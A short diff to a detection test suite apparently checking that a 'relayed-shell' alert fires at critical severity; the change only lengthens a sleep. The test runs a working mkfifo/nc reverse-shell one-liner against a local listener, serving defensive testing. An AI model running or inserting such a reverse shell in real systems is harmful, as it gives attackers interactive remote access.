@@ -114,7 +114,7 @@ describe("real containers", { skip }, () => {
     const alert = await alertOf(
       "relayed-shell",
       `nc -l -p 4470 </dev/null >/dev/null & /bin/busybox usleep 300000
-       mkfifo /tmp/f; (sh -i </tmp/f 2>&1 | nc 127.0.0.1 4470 >/tmp/f) & /bin/busybox usleep 700000; kill $(/bin/busybox pidof nc)`,
+       mkfifo /tmp/f; (sh -i </tmp/f 2>&1 | nc 127.0.0.1 4470 >/tmp/f) & /bin/busybox usleep 2000000; kill $(/bin/busybox pidof nc)`,
     );
     assert.equal(evidence(alert, "peer"), "127.0.0.1:4470");
     assert.equal(alert.severity, "critical");
